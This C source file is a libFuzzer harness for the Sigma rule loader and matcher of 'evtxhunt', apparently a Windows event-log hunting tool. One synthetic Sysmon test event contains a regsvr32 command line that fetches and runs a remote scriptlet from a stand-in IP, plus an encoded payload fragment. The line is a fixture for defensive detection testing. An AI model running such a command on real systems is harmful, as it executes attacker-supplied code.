/* libFuzzer target: one YAML text through the Sigma loader and compiler
 * (libyaml, the rule tree, modifiers, conditions, PCRE2), then the
 * prefilter built from whatever loaded and the matcher on two events;
 * correlation rules resolved and run over a hit of each per rule.
 * Rule files are input too: nothing in them may crash or hang evtxhunt.
 *
 * Built by configure --enable-fuzzing; replayed on every kept crasher by
 * make check (tests/fuzz/replay.c). */
#include "config.h"

#include <stdlib.h>
#include <string.h>

#include "evtxhunt/correlation.h"
#include "evtxhunt/event.h"
#include "evtxhunt/prefilter.h"
#include "evtxhunt/sigma.h"
#include "evtxhunt/timeline.h"

static void fuzz_rule_add(struct eh_event *ev, const char *name, const char *value)
{
	eh_event_add_field(ev, name, strlen(name), value, strlen(value));
}

static void fuzz_rule_events(struct eh_event *sysmon, struct eh_event *security)
{
	static const char provider[] = "Microsoft-Windows-Sysmon";
	eh_event_init(sysmon);
	eh_event_reset(sysmon);
	eh_event_set_system(sysmon, EH_SYS_PROVIDER, provider, sizeof provider - 1);
	fuzz_rule_add(sysmon, "Image", "C:\\Windows\\System32\\regsvr32.exe");
	fuzz_rule_add(sysmon, "CommandLine", "regsvr32 /s /i:http://10.0.0.1/a.sct scrobj.dll -enc SQBFAFgA");
	fuzz_rule_add(sysmon, "ParentImage", "C:\\Windows\\explorer.exe");
	fuzz_rule_add(sysmon, "ProcessId", "4242");
	fuzz_rule_add(sysmon, "User", "NT AUTHORITY\\SYSTEM");
	fuzz_rule_add(sysmon, "Hashes", "SHA256=ABCDEF,IMPHASH=0123");
	fuzz_rule_add(sysmon, "DestinationIp", "10.1.2.3");
	eh_event_finish(sysmon);
	sysmon->event_id = 1;

	static const char security_provider[] = "Microsoft-Windows-Security-Auditing";
	eh_event_init(security);
	eh_event_reset(security);
	eh_event_set_system(security, EH_SYS_PROVIDER, security_provider, sizeof security_provider - 1);
	fuzz_rule_add(security, "NewProcessName", "C:\\Windows\\System32\\cmd.exe");
	fuzz_rule_add(security, "CommandLine", "cmd /c whoami");
	fuzz_rule_add(security, "NewProcessId", "0x1a4");
	eh_event_finish(security);
	security->event_id = 4688;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static struct eh_event sysmon, security;
	static bool ready;
	if (!ready) {
		fuzz_rule_events(&sysmon, &security);
		ready = true;
	}
	struct eh_ruleset *rs = eh_ruleset_new();
	eh_ruleset_load_text(rs, "fuzz.yml", (const char *)data, size);
	if (eh_ruleset_count(rs) > 0) {
		struct eh_prefilter *pf = eh_prefilter_build(rs);
		struct eh_matcher *m = eh_matcher_new(rs);
		eh_matcher_match(m, &sysmon, NULL, NULL, NULL);
		eh_matcher_match(m, &security, NULL, NULL, NULL);
		eh_matcher_free(m);
		eh_prefilter_free(pf);
	}
	/* correlation rules: resolved, and run over a hit of each event per rule */
	if (eh_correlations_resolve(rs) > 0) {
		struct eh_timeline in, out;
		eh_timeline_init(&in, 0);
		eh_timeline_init(&out, 0);
		for (size_t i = 0; i < eh_ruleset_count(rs); i++) {
			eh_timeline_add(&in, eh_ruleset_rule(rs, i), &sysmon, eh_timeline_file(&in, "a.evtx"));
			eh_timeline_add(&in, eh_ruleset_rule(rs, i), &security, eh_timeline_file(&in, "b.evtx"));
		}
		eh_correlate(rs, &in, &out);
		eh_timeline_release(&out);
		eh_timeline_release(&in);
	}
	eh_ruleset_free(rs);
	return 0;
}
